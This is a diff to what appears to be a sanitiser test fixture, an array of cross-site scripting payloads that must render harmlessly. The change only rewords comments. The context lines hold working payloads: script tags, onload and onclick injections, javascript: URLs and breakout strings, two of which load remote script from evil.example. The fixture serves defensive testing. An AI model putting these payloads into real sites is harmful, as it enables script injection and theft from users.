@@ -1,4 +1,4 @@
-/** What people try, one kind a line: each must come out harmless as text, link, image and raw HTML alike. */
+/** XSS attempts, one of each kind. Each must be harmless as text, link, image and raw HTML. */
 export const XSS_LINES: readonly string[] = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
@@ -122,7 +122,7 @@ export const XSS_LINES: readonly string[] = [
   "# <svg onload=alert(1)>",
   'www.x.example/"onclick=alert(1)',
   'a@b.example"onclick=alert(1)',
-  // raw HTML: elements that load, run or take over
+  // raw HTML: elements that load, execute or take over
   "<script>/*<!--*/alert(1)/*-->*/</script>",
   "<script type=module>import('//evil.example/x.js')</script>",
   "<script type=text/javascript src=data:text/javascript,alert(1)></script>",
@@ -216,7 +216,7 @@ export const XSS_LINES: readonly string[] = [
   "</script><script>alert(1)</script>",
   "--><script>alert(1)</script><!--",
   "]]><script>alert(1)</script><![CDATA[",
-  // links and images: schemes however they are written
+  // links and images: obfuscated schemes
   "javascript:alert(1)//https://x.example/",
   "javascript:/*https://x.example/*/alert(1)",
   "javascript:void(alert(1))",
